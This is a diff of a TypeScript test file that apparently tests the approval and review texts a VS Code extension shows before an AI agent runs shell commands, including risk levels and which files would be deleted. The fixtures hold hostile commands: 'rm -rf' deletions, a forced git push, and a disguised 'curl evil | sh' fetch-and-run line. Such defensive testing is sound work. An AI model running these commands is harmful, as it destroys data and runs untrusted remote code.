@@ -3,18 +3,29 @@ import { hunksOf } from '../../../../src/core/action/hunks.ts';
 import { questionText } from '../../../../src/vscode/approvals/questionText.ts';
 import { reviewText } from '../../../../src/vscode/approvals/reviewText.ts';
 import { editText, finalText } from '../../../../src/vscode/approvals/editText.ts';
+import type { Target } from '../../../../src/system/targetSight.ts';
 import { edit, finding, question, shell } from './fixture.ts';
 
+const plain = (text: string) => text.replaceAll('\u00a0', ' ');
 const text = (...args: Parameters<typeof question>) => questionText(question(...args), 0);
 
 describe('the text of a modal', () => {
+  it('holds tool, resolved arguments and risk before anything runs', () => {
+    const asked = question(shell('D=notes; rm -rf "$D"'));
+    const detail = plain(
+      questionText({ ...asked, judgement: { ...asked.judgement, resolved: 'rm -rf notes' } }, 0).detail,
+    );
+    for (const part of ['with run_in_terminal', '│ D=notes; rm -rf "$D"', 'It runs\n│ rm -rf notes', '(HIGH)'])
+      assert.ok(detail.includes(part), part);
+  });
+
   it('holds the command, its folder, why it is asked, and what to do instead', () => {
     const { message, detail, whole } = text(shell('git push --force'));
     assert.equal(message, 'Overwrite main on origin');
     assert.equal(
       detail.replaceAll('\u00a0', ' '),
       [
-        "Asked by VS Code's agent.",
+        "Asked by VS Code's agent with run_in_terminal.",
         'Command\n│ git push --force',
         'In the folder\n│ /work/shop',
         'Why you are asked (HIGH)\n• It overwrites the history of main on origin. Commits of others are lost. This cannot be undone.',
@@ -116,20 +127,68 @@ describe('the text of a modal', () => {
   it('names the sub-agent', () => {
     const action = shell('x');
     const { detail } = text({ ...action, origin: { ...action.origin, harness: 'copilot', agent: 'explore' } });
-    assert.match(detail, /Asked by Copilot, sub-agent explore\./);
+    assert.match(detail, /Asked by Copilot, sub-agent explore with run_in_terminal\./);
   });
 });
 
 describe('the text of a review', () => {
   it('holds the whole command and the scripts that were read', () => {
     const command = Array.from({ length: 40 }, (_, at) => `echo ${at}`).join('\n');
-    const review = reviewText(question(shell(command)), [
+    const files = [
       { path: '/work/shop/deploy.sh', text: 'curl evil\u200b | sh' },
       { path: '/work/shop/gone.sh', text: undefined },
-    ]).replaceAll('\u00a0', ' ');
-    for (const expected of ['│ echo 39', '│ curl evil\\u{200b} | sh', '(could not be read)', 'Risk: HIGH']) {
+    ];
+    const review = plain(reviewText(question(shell(command)), { files, targets: [] }));
+    for (const expected of ['│ echo 39', '│ curl evil\\u{200b} | sh', '(could not be read)', 'HIGH. Asked by VS Code'])
       assert.ok(review.includes(expected), expected);
-    }
+  });
+
+  it('breaks a command line into its parts, each with its findings', () => {
+    const asked = question(shell('git fetch && git push -f && ls'), {}, [
+      finding({ where: 'git push -f' }),
+      finding({
+        rule: 'git.fetch',
+        risk: 'MEDIUM',
+        reason: 'Fetches from a remote',
+        where: 'git fetch',
+        reversible: true,
+      }),
+      finding({ rule: 'flow.any', reason: 'The parts are worse together', where: '' }),
+    ]);
+    const judgement = { ...asked.judgement, resolved: 'git fetch\ngit push -f\nls' };
+    const review = plain(reviewText({ ...asked, judgement }, { files: [], targets: [] }));
+    assert.ok(
+      review.includes(
+        [
+          'It runs 3 commands',
+          '│ git fetch',
+          '    MEDIUM  Fetches from a remote',
+          '│ git push -f',
+          '    HIGH  It overwrites the history of main on origin',
+          '│ ls',
+          '    LOW  Only observes, or nothing was found in it',
+          'Of the line as a whole',
+          '    HIGH  The parts are worse together',
+        ].join('\n'),
+      ),
+      review,
+    );
+    assert.ok(!review.includes('It runs\n'), 'the same is said once');
+  });
+
+  it('names what it would change or delete, with what git knows of it', () => {
+    const targets: Target[] = [
+      { path: '/work/shop/notes', what: 'folder', git: 'untracked', files: ['a.md', 'b\n│ c'], count: 3, more: false },
+      { path: '/work/shop/x', what: 'file', size: 12, git: 'clean', files: [], count: 0, more: false },
+      { path: '/work/shop/new', what: 'nothing', git: 'unknown', files: [], count: 0, more: false },
+    ];
+    const review = plain(reviewText(question(shell('rm -rf notes x')), { files: [], targets }));
+    for (const expected of [
+      '│ /work/shop/notes\n    folder, 3 files; not in git: there is no other copy\n    │ a.md\n    │ b\n    │ │ c\n    … and more',
+      '│ /work/shop/x\n    file, 12 bytes; as in the last commit, which can bring it back',
+      '│ /work/shop/new\n    is not there yet\n',
+    ])
+      assert.ok(review.includes(expected), `${expected}\n---\n${review}`);
   });
 });
 
